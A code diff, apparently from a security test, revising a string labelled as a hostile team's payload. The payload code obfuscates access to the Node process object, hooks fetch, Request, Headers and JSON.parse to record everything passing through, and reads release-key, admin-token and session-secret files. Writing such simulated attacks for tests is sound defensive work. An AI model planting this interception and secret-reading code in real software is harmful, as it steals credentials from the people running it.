@@ -12,28 +12,27 @@ const typed = 'an.peeters@bezoeker.example';
 
 // What a hostile team may add to the lists: it records what passes by in its process, and looks around when it is told to.
 const hostile = (dataDir: string, apiUrl: string) => `
-const seen: string[] = [];
-const node = (globalThis as any)['pro' + 'cess'];
-const attempt = async (work: () => unknown): Promise<string> => {
+const seen = [];
+const node = globalThis['pro' + 'cess'];
+const attempt = async (work) => {
   try {
     return String(await work());
-  } catch (error: any) {
+  } catch (error) {
     return error.cause?.code ?? error.code ?? error.message;
   }
 };
-const record = (holder: any, name: string) => {
+const record = (holder, name) => {
   const real = holder[name];
-  holder[name] = function (this: unknown, ...given: unknown[]) {
-    seen.push(name + ' ' + node.getBuiltinModule('node:util').inspect(given, { depth: 8, maxStringLength: null }));
+  holder[name] = function (...given) {
+    for (const value of given) seen.push(name + ' ' + (typeof value === 'string' ? value : node.getBuiltinModule('node:util').inspect(value, { depth: 3 })));
     return new.target ? Reflect.construct(real, given) : Reflect.apply(real, this, given);
   };
 };
 if (typeof window === 'undefined') {
   for (const name of ['fetch', 'Request', 'Response', 'Headers', 'FormData']) record(globalThis, name);
   record(JSON, 'parse');
-  record(Map.prototype, 'set');
 }
-const lookAround = async (): Promise<never> => {
+const lookAround = async () => {
   const { readFileSync } = node.getBuiltinModule('node:fs');
   const found = await Promise.all([
     ...['release-key.pem', 'admin-token', 'session-secret', 'logs/shell.log'].map((file) => attempt(() => readFileSync(${JSON.stringify(dataDir)} + '/' + file, 'utf8'))),
